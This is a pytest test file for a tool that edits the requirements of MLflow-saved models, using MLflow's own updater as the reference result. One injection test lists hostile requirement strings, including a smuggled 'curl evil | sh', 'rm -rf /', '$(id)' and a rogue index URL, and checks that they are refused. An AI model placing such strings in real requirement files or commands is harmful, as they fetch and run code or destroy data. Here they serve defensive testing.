"""deployer/environment/edit.py with MLflow as the oracle: the same add/remove through
``mlflow.models.update_model_requirements`` on a copy of the same MLflow-saved model gives the
same requirement sets in requirements.txt and conda.yaml."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from deployer.environment.edit import apply_requirements_edit, plan_requirements_edit
from deployer.errors import ModelError, UsageError
from deployer.intake import load_model

REQS = ["pandas>=2", "numpy==2.0.0", "scikit-learn==1.5.0", "six"]


@pytest.fixture(scope="session")
def reqs_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model saved by MLflow with known pip requirements (what MLflow writes: all three files)."""
    import mlflow.pyfunc

    class Echo(mlflow.pyfunc.PythonModel):
        def predict(self, context, model_input, params=None):  # type: ignore[no-untyped-def]
            return model_input

    path = tmp_path_factory.mktemp("reqs") / "model"
    mlflow.pyfunc.save_model(str(path), python_model=Echo(), pip_requirements=REQS)
    return path


def _copy(src: Path, dest: Path) -> Path:
    shutil.copytree(src, dest)
    return dest


def _key(req: Requirement) -> tuple[str, str, str, tuple[str, ...], str | None]:
    return (canonicalize_name(req.name), str(req.specifier), str(req.marker or ""),
            tuple(sorted(canonicalize_name(e) for e in req.extras)), req.url)


def requirement_sets(model: Path) -> dict[str, set[tuple[str, str, str, tuple[str, ...], str | None]]]:
    txt = [line for line in (model / "requirements.txt").read_text().splitlines() if line.strip()]
    conda = yaml.safe_load((model / "conda.yaml").read_text())
    pip = next(d["pip"] for d in conda["dependencies"] if isinstance(d, dict) and "pip" in d)
    return {"requirements.txt": {_key(Requirement(x)) for x in txt},
            "conda.yaml": {_key(Requirement(x)) for x in pip}}


CASES = [
    ("add", ["six==1.16.0"]),  # overwrite in place
    ("add", ["requests>=2.31"]),  # append
    ("add", ["mlflow >= 2.8, != 2.9.0", "Pandas[parquet]>=2.1"]),  # specifiers, extras, case
    ("add", ['tomli>=2; python_version < "3.11"']),  # a marker
    ("add", ["tinypkg @ https://example.invalid/tinypkg-1.0-py3-none-any.whl"]),  # a direct URL
    ("remove", ["six"]),
    ("remove", ["numpy>=99", "scikit-learn"]),  # specifiers are ignored on remove
    ("remove", ["not-listed"]),  # ignored, with a warning
]


@pytest.mark.parametrize(("operation", "reqs"), CASES, ids=lambda v: str(v))
def test_same_requirement_sets_as_mlflow(reqs_model: Path, tmp_path: Path, operation: str, reqs: list[str]) -> None:
    from mlflow.models import update_model_requirements

    ours = _copy(reqs_model, tmp_path / "ours")
    theirs = _copy(reqs_model, tmp_path / "mlflow")
    update_model_requirements(str(theirs), operation, list(reqs))
    apply_requirements_edit(plan_requirements_edit(ours, operation, reqs))
    assert requirement_sets(ours) == requirement_sets(theirs)
    # and deployer still reads the model's environment (python_env.yaml's -r follows the file)
    resolved = load_model(str(ours)).environment.pip_requirements
    assert {_key(Requirement(r.split(" --")[0]))[0] for r in resolved} == {
        k[0] for k in requirement_sets(ours)["requirements.txt"]}


def test_add_replaces_in_place_and_keeps_other_lines(reqs_model: Path, tmp_path: Path) -> None:
    model = _copy(reqs_model, tmp_path / "m")
    txt = model / "requirements.txt"
    original = txt.read_text().splitlines()
    txt.write_text("# pinned by the team\n--extra-index-url https://example.invalid/simple\n" + txt.read_text())
    apply_requirements_edit(plan_requirements_edit(model, "add", ["Six==1.17.0"]))
    lines = txt.read_text().splitlines()
    assert lines[:2] == ["# pinned by the team", "--extra-index-url https://example.invalid/simple"]
    assert lines[2:] == [("Six==1.17.0" if x == "six" else x) for x in original]


def test_python_env_inline_dependencies_change_too(reqs_model: Path, tmp_path: Path) -> None:
    model = _copy(reqs_model, tmp_path / "m")
    env = yaml.safe_load((model / "python_env.yaml").read_text())
    env["dependencies"] = ["six", "numpy==2.0.0"]
    (model / "python_env.yaml").write_text(yaml.safe_dump(env))
    apply_requirements_edit(plan_requirements_edit(model, "add", ["six==1.17.0", "requests"]))
    assert yaml.safe_load((model / "python_env.yaml").read_text())["dependencies"] == [
        "six==1.17.0", "numpy==2.0.0", "requests"]
    apply_requirements_edit(plan_requirements_edit(model, "remove", ["numpy"]))
    assert yaml.safe_load((model / "python_env.yaml").read_text())["dependencies"] == [
        "six==1.17.0", "requests"]


def test_python_env_referring_to_requirements_txt_is_left_alone(reqs_model: Path, tmp_path: Path) -> None:
    model = _copy(reqs_model, tmp_path / "m")
    before = (model / "python_env.yaml").read_text()
    edit = plan_requirements_edit(model, "add", ["requests"])
    assert [f.path.name for f in edit.changed] == ["requirements.txt", "conda.yaml"]
    apply_requirements_edit(edit)
    assert (model / "python_env.yaml").read_text() == before


def test_plan_writes_nothing_and_shows_a_diff(reqs_model: Path, tmp_path: Path) -> None:
    model = _copy(reqs_model, tmp_path / "m")
    before = {p.name: p.read_bytes() for p in model.iterdir() if p.is_file()}
    edit = plan_requirements_edit(model, "remove", ["six"])
    assert {p.name: p.read_bytes() for p in model.iterdir() if p.is_file()} == before
    assert "-six" in edit.diff() and "a/requirements.txt" in edit.diff() and "a/conda.yaml" in edit.diff()


def test_remove_of_an_unlisted_package_warns_as_mlflow_does(reqs_model: Path) -> None:
    edit = plan_requirements_edit(reqs_model, "remove", ["not-listed"])
    assert edit.changed == () and "not-listed not found" in edit.warnings[0]


@pytest.mark.parametrize(("req", "what"), [
    ("six\nRUN curl evil | sh", "newline"),
    ("six; rm -rf /", "option"),
    ("six $(id)", "'$'"),
    ("six`id`", "'`'"),
    ("--index-url https://evil.invalid", "pip option"),
    ("six==", "invalid requirement"),
    ("six # why", "comment"),
    ("https://example.invalid/pkg-1.0.tar.gz", "names no package"),
    ("wheels/pkg-1.0-py3-none-any.whl", "names no package"),
])
def test_injection_and_invalid_specs_are_refused_before_any_write(reqs_model: Path, req: str, what: str) -> None:
    with pytest.raises(UsageError) as info:
        plan_requirements_edit(reqs_model, "add", ["requests", req])
    assert what in info.value.what and info.value.fix and info.value.exit_code == 2


def test_one_package_twice_is_refused(reqs_model: Path) -> None:
    with pytest.raises(UsageError, match="given twice"):
        plan_requirements_edit(reqs_model, "add", ["six==1", "Six>=2"])


@pytest.mark.parametrize("uri", ["s3://bucket/model", "runs:/0123/model", "models:/iris/1", "https://h/m"])
def test_only_local_model_directories(uri: str) -> None:
    with pytest.raises(UsageError, match="not a local model directory"):
        plan_requirements_edit(uri, "add", ["six"])


def test_a_folder_without_mlmodel_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no MLmodel"):
        plan_requirements_edit(tmp_path, "add", ["six"])


def test_a_failed_rename_puts_back_the_files_already_replaced(reqs_model: Path, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """The second rename fails (the file system's error, as a full disk or a permission would
    raise it): requirements.txt, already replaced, is put back; no partial file stays."""
    model = _copy(reqs_model, tmp_path / "m")
    before = {p.name: p.read_bytes() for p in model.iterdir() if p.is_file()}
    edit = plan_requirements_edit(model, "add", ["requests"])
    assert len(edit.changed) == 2
    real_replace = os.replace
    calls: list[str] = []

    def failing_second(src: str | Path, dst: str | Path) -> None:
        calls.append(str(dst))
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", failing_second)
    with pytest.raises(ModelError, match="none was changed"):
        apply_requirements_edit(edit)
    monkeypatch.undo()
    assert {p.name: p.read_bytes() for p in model.iterdir() if p.is_file()} == before
    assert not [p for p in model.iterdir() if p.name.startswith(".partial-")]
